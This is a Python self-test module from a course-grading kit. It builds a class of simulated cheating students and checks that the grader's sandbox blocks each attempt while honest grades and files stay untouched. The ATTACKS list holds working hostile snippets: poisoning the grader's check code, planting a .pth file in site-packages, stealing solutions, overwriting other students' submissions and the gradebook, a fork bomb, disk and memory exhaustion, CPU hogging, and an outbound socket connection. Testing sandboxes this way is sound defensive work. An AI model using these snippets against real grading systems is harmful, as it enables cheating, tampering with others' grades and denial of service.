"""Attacks on the grader, as a student would write them: a class to grade, and what must hold.

Each attack is the code of one A1 answer cell. Graded in the sandbox, every one must cost the
attacker that exercise (0 points, with a reason) and nothing else: the honest students' grades,
the kit, the venv, the sources, the other submissions and the gradebook stay as they were.
``python -m course_grader selftest`` (``./kit grade --self-test``) grades such a class
with the installed kit and prints what held; the tests grade the same class.
"""

from __future__ import annotations

import hashlib
import re
import shutil
import socket
import sysconfig
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path

import nbformat

from course_grader.cells import answer_id, check_id
from course_grader.sandbox.config import kit_package
from course_grader.selftest.attacks.submissions import write_submission

__all__ = [
    "ATTACKS",
    "AttackClass",
    "outside_address",
    "poison_code",
    "self_test",
    "write_attack_class",
]

_REFUSED = "Read-only file system|Permission denied"  # a read-only bind, or not the owner
# A1's kernel is not shown the kit at all (its checks run in the grader): no such file.
_NO_KIT = "No such file or directory|" + _REFUSED
_COPY_ANSWER = """import json, pathlib, sys, tempfile
nb = json.loads(pathlib.Path({path!r}).read_text())
code = next("".join(c["source"]) for c in nb["cells"]
            if c.get("metadata", {{{{}}}}).get("course", {{{{}}}}).get("answer") == {exercise!r})
folder = tempfile.mkdtemp()
pathlib.Path(folder, "{module}.py").write_text("import numpy as np\\n" + code)
sys.path.insert(0, folder)
from {module} import {name}
"""
# (student, exercise, what it tries, answer code, the error the sandbox stops it with: a regex);
# {placeholders} in the code are filled per class.
ATTACKS = [
    ("attacker_a", "A1.1", "poison the kit's checks for later students",
     "import pathlib\nwith open(pathlib.Path({kit!r}).parent / 'course_grader/assignments/a1/checks.py', 'a') as f:\n"
     "    f.write({poison!r})\n", _NO_KIT),
    ("attacker_a", "A1.2", "write the gradebook and the feedback folder",
     "import pathlib\npathlib.Path({gradebook!r}).write_text('attacker_a,A1,A1.2,3,3,PASS\\n')\n"
     "pathlib.Path({feedback!r}).write_text('Total: 0 / 8 points\\n')\n", "FileNotFoundError"),
    ("attacker_a", "A1.3", "steal the solution from the instructor sources",
     _COPY_ANSWER.format(path="{source}", exercise="A1.3", module="stolen", name="conv2d_backward"),
     "FileNotFoundError"),
    ("attacker_b", "A1.1", "write a .pth file into the venv's site-packages",
     "import pathlib\npathlib.Path({site!r}, 'zz_course_attack.pth').write_text('import os\\n')\n",
     _REFUSED),
    ("attacker_b", "A1.2", "copy another student's submission",
     _COPY_ANSWER.format(path="{victim1}", exercise="A1.2", module="copied", name="sgd_momentum"),
     "FileNotFoundError"),
    ("attacker_b", "A1.3", "overwrite another student's submission",
     "import pathlib\npathlib.Path({victim2!r}).write_text('{{}}')\n", "FileNotFoundError"),
    ("attacker_c", "A1.1", "fork bomb",
     "import subprocess, sys, time\nsubprocess.Popen([sys.executable, '-c', 'import os, time\\n"
     "while True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(30)'])\n"
     "deadline = time.time() + 40\nwhile time.time() < deadline:  # until no process is left\n"
     "    subprocess.run(['true'])\n    time.sleep(0.5)\n", "BlockingIOError"),
    ("attacker_c", "A1.2", "fill the disk",
     "chunk = b'x' * 2**20\nwith open('filler.bin', 'wb') as f:\n    while True:\n"
     "        f.write(chunk)\n", "No space left on device|File too large"),
    ("attacker_c", "A1.3", "allocate far more memory than the limit",
     "import numpy as np\nhog = np.empty({hog_bytes}, dtype=np.uint8)\n", "MemoryError"),
    ("attacker_d", "A1.1", "connect to an address outside the sandbox",
     "import socket\nwith socket.create_connection(({host!r}, {port}), timeout=5) as s:\n"
     "    s.sendall(b'answers please')\n", "Network is unreachable"),
    ("attacker_d", "A1.2", "write into the kit",
     "import pathlib\npathlib.Path({kit!r}, 'grading', 'zz_attack.py').write_text('x = 1\\n')\n",
     _NO_KIT),
    # The grading machine's CPU and the grader's memory (issue 35): 200 busy processes, each in
    # a session of its own, beside the honest notebooks (their grades must not change), and a
    # 1 GiB stdout flood with a 200 MiB exception message (cut in the sandbox and in nbval).
    # The busy processes stop with the cell: left running, they starved the notebook's own
    # later cells for minutes, burning cores that showed nothing more (the test's starving
    # notebook, kept until the grader stops it, shows the share; the fork bomb, the clean-up).
    ("attacker_e", "A1.1", "200 busy processes, each in a session of its own",
     "import os, signal, time\nend = time.time() + 10\nfor _ in range(200):\n"
     "    if os.fork() == 0:\n        os.setsid()\n        while time.time() < end:\n"
     "            pass\n        os.kill(os.getpid(), signal.SIGKILL)\n"
     "time.sleep(max(0, end - time.time()))\nraise RuntimeError('you wait')\n",
     "RuntimeError|timed out"),  # its own forks, slowed by its busy processes, may time out
    ("attacker_d", "A1.3", "a 1 GiB stdout flood and a 200 MiB exception message",
     "for _ in range(1024):\n    print('x' * 2**20)\nraise RuntimeError('y' * 200 * 2**20)\n",
     "RuntimeError: yyyyyyyyyy|timed out"),
]  # fmt: skip
HONEST = ("honest_1", "honest_2")  # all correct; A1.1 wrong (the other two correct)


def poison_code(pass_line: str) -> str:
    """Code that, appended to the grader's ``assignments/a1/checks.py``, makes every A1.1 answer print PASS."""
    return f"\ndef check_smoothed_cross_entropy(fn):\n    print({pass_line!r})\n"


def outside_address() -> str | None:
    """Return an IPv4 address of this machine that is not loopback, or None."""
    import psutil

    for addresses in psutil.net_if_addrs().values():
        for address in addresses:
            if address.family == socket.AF_INET and not address.address.startswith("127."):
                return address.address
    return None


@dataclass
class AttackClass:
    """A class written to disk: where things are, and who must get what."""

    submissions: Path
    grades: Path
    expected_honest: dict[str, dict[str, float]]
    watched: dict[Path, str]  # file -> sha256 that must not change
    listener: socket.socket | None
    connections: list[str]

    def unchanged(self) -> list[str]:
        """Return the watched files that changed."""
        return [str(p) for p, d in self.watched.items() if _sha(p) != d]


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "missing"


def _listen(host: str) -> tuple[socket.socket, list[str]]:
    """A TCP listener on ``host`` that records every connection it gets."""
    server = socket.create_server((host, 0))
    seen: list[str] = []

    def accept() -> None:
        while True:
            try:
                conn, peer = server.accept()
            except OSError:
                return
            seen.append(str(peer))
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    return server, seen


def write_attack_class(
    folder: Path, source_dir: Path, memory_mb: int, attackers: bool = True
) -> AttackClass:
    """Write two honest A1 submissions and (``attackers``) the attackers'; return the class."""
    source = nbformat.read(Path(source_dir) / "A1_sgd_conv.ipynb", as_version=4)
    correct = {answer_id(c): c.source for c in source.cells if answer_id(c)}
    passes = {check_id(c): c.outputs[0]["text"].strip() for c in source.cells if check_id(c)}
    subs, grades = folder / "submissions", folder / "grades"
    (grades / "feedback").mkdir(parents=True)
    (grades / "gradebook.csv").write_text("student,assignment,exercise,points,max_points,reason\n")
    (grades / "feedback" / "honest_1.md").write_text("# Feedback for honest_1\n")

    def write(student: str, answers: dict[str, str]) -> Path:
        return write_submission(source, subs, student, answers)

    wrong = correct["A1.1"].replace("- Q) / n", "- Q)")  # forgets the mean in the gradient
    if wrong == correct["A1.1"]:
        raise ValueError("the A1.1 solution changed: make the honest wrong answer wrong again")
    victims = [write(HONEST[0], correct), write(HONEST[1], dict(correct, **{"A1.1": wrong}))]
    expected = {
        HONEST[0]: {"A1.1": 2.0, "A1.2": 3.0, "A1.3": 3.0},
        HONEST[1]: {"A1.1": 0.0, "A1.2": 3.0, "A1.3": 3.0},
    }
    host = outside_address() if attackers else None
    listener, connections = _listen(host) if host else (None, [])
    fill = {
        "kit": str(kit_package()),
        "site": sysconfig.get_paths()["purelib"],
        "source": str(Path(source_dir).resolve() / "A1_sgd_conv.ipynb"),
        "gradebook": str(grades / "gradebook.csv"),
        "feedback": str(grades / "feedback" / "honest_1.md"),
        "victim1": str(victims[0]),
        "victim2": str(victims[1]),
        "poison": poison_code(passes["A1.1"]),
        "host": host or "192.0.2.1",
        "port": listener.getsockname()[1] if listener else 9,
        "hog_bytes": 3 * memory_mb * 2**19,  # 1.5 x the limit (np.empty touches no page)
    }
    if attackers:
        for student in sorted({a[0] for a in ATTACKS}):
            answers = {ex: code.format(**fill) for s, ex, _, code, _ in ATTACKS if s == student}
            write(student, answers)
    watched = [*victims, grades / "gradebook.csv", grades / "feedback" / "honest_1.md"]
    watched += [p for p in Path(source_dir).rglob("*") if p.is_file()]
    watched += [p for p in kit_package().rglob("*") if p.is_file() and "__pycache__" not in p.parts]
    return AttackClass(subs, grades, expected, {p: _sha(p) for p in watched}, listener, connections)


def self_test(keep: Path | None = None) -> int:
    """Check the machine (A1 and the engine assignments), grade a class of attackers, one per
    route past the guard and one in-kernel verdict route per engine assignment; print what
    held. 0: all held."""
    from course_grader.grade import GradingLimits
    from course_grader.gradebook import grade_folder
    from course_grader.sandbox.config import SandboxLimits, sandbox_problem
    from course_grader.sandbox.integrity import fingerprint

    problem = sandbox_problem()
    if problem is not None:
        print(f"selftest: no sandbox here ({problem}); the attacks are not run unisolated")
        return 1
    sources = kit_package().parent / "assignments" / "source"
    limits = SandboxLimits(processes=256, disk_mb=64)
    from course_grader.gradebook import load_sources
    from course_grader.selftest.attacks.engines import ENGINE_ROUTES, grade_engine_routes
    from course_grader.selftest.selfcheck import GradingMachineError, preflight

    engines = list(dict.fromkeys(route.assignment for route in ENGINE_ROUTES))
    try:  # afresh: the self-test is what an instructor runs when in doubt about the machine
        checked = preflight(load_sources(sources), limits, ["A1", *engines], jobs=2)
    except GradingMachineError as exc:
        print(f"selftest: {exc}")
        return 1
    print(f"HELD  {checked.summary()}")
    folder = Path(keep or tempfile.mkdtemp(prefix="grading-selftest-"))
    site = Path(sysconfig.get_paths()["purelib"])
    venv_before = fingerprint(site, hash_all=False)
    attack = write_attack_class(folder, sources, limits.memory_mb)
    honest_only = write_attack_class(folder / "honest_only", sources, limits.memory_mb, False)
    time_limits = GradingLimits(cell_seconds=60, total_seconds=400)
    rows = grade_folder(
        attack.submissions,
        sources,
        time_limits,
        progress=True,
        sandbox=limits,
        hidden=(str(attack.grades),),
    )
    alone = grade_folder(
        honest_only.submissions, sources, time_limits, progress=False, sandbox=limits
    )
    got = {(r.student, r.exercise): r for r in rows}
    held = True
    for student, exercise, what, _, why in ATTACKS:
        row = got[(student, exercise)]
        ok = row.points == 0 and re.search(why, row.reason) is not None
        held &= ok
        print(
            f"{'HELD ' if ok else 'FAILED'} {what:55s} {exercise} {row.points:g} pts: "
            f"{row.reason[:70]}"
        )
    honest = {(r.student, r.exercise): r.points for r in rows if r.student.startswith("honest")}
    same = honest == {(r.student, r.exercise): r.points for r in alone}
    checks = [
        ("honest students graded as in a class without attackers", same),
        ("kit, sources, submissions and gradebook byte for byte unchanged", not attack.unchanged()),
        ("venv's site-packages unchanged", fingerprint(site, False, venv_before) == venv_before),
        ("no connection reached the outside listener", not attack.connections),
    ]
    for what, ok in checks:
        held &= ok
        print(f"{'HELD ' if ok else 'FAILED'} {what}")
    from course_grader.selftest.attacks.verdict import grade_routes

    for ok, what in grade_routes(folder / "routes", sources):  # past the ast guard, and the host
        held &= ok
        print(f"{'HELD ' if ok else 'FAILED'} {what}")
    for ok, what in grade_engine_routes(folder / "engine_routes", sources):  # one per A2-A7, A9
        held &= ok
        print(f"{'HELD ' if ok else 'FAILED'} {what}")
    print("selftest: every attack held" if held else "selftest: SOME ATTACKS WENT THROUGH")
    if attack.listener is not None:
        attack.listener.close()
    if keep is None:
        shutil.rmtree(folder, ignore_errors=True)
    return 0 if held else 1
